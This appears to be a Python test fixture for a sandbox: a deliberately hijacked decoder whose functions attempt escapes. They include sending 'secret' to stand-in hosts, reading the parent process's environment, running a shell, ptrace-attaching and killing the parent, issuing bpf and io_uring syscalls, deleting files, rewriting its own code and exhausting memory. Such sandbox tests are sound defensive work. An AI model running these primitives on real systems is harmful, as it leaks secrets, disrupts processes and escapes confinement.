"""A decoder that an attacker took over, for test_planted: each of these is what such a one would do next."""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import subprocess
from pathlib import Path
from typing import Any, BinaryIO

import numpy as np

from firstseen.sandbox.answer import Answer

Json = dict[str, Any]


def planted(stream: BinaryIO, options: Json) -> Answer:
    """Does what the file's content names, with the functions below; the option `target` is a path."""
    globals()[stream.read().decode()](options["target"])
    return Answer({"got away": True})


def nothing(target: str) -> None:
    return


def open_a_socket(target: str) -> None:
    socket.create_connection(("192.0.2.1", 80), timeout=5)


def resolve_a_name(target: str) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.53", 53))


def open_a_raw_socket(target: str) -> None:
    """Past Python: what native code would call."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.socket(2, 1, 0) < 0:
        raise AssertionError("the call came back")


def read_a_file_outside(target: str) -> None:
    Path(target).read_bytes()


def read_the_environment_of_the_program(target: str) -> None:
    Path(f"/proc/{os.getppid()}/environ").read_bytes()


def fork(target: str) -> None:
    if os.fork() == 0:
        os._exit(0)


def fork_natively(target: str) -> None:
    if ctypes.CDLL(None).fork() == 0:
        os._exit(0)


def run_a_program(target: str) -> None:
    subprocess.run(["/bin/sh", "-c", "id"], check=True, close_fds=False)


def become_a_program(target: str) -> None:
    os.execv("/usr/bin/env", ["env"])


def allocate_10_gb(target: str) -> None:
    np.ones(10 * 1024**3, np.uint8)


def loop_for_ever(target: str) -> None:
    while True:
        pass


def write_to_disk(target: str) -> None:
    Path(target).write_bytes(b"left behind")


def write_into_what_was_handed(target: str) -> None:
    """The one file that it has, and our own code."""
    with Path(__file__).open("ab") as code:
        code.write(b"import os")


def remove_a_file(target: str) -> None:
    Path(target).unlink()


def signal_the_program(target: str) -> None:
    os.kill(os.getppid(), signal.SIGTERM)


def trace_the_program(target: str) -> None:
    ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)


def load_a_kernel_program(target: str) -> None:
    libc = ctypes.CDLL(None)
    libc.syscall(321 if os.uname().machine == "x86_64" else 280, 5, None, 0)


def set_up_io_uring(target: str) -> None:
    ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120))


def abort(target: str) -> None:
    os.abort()
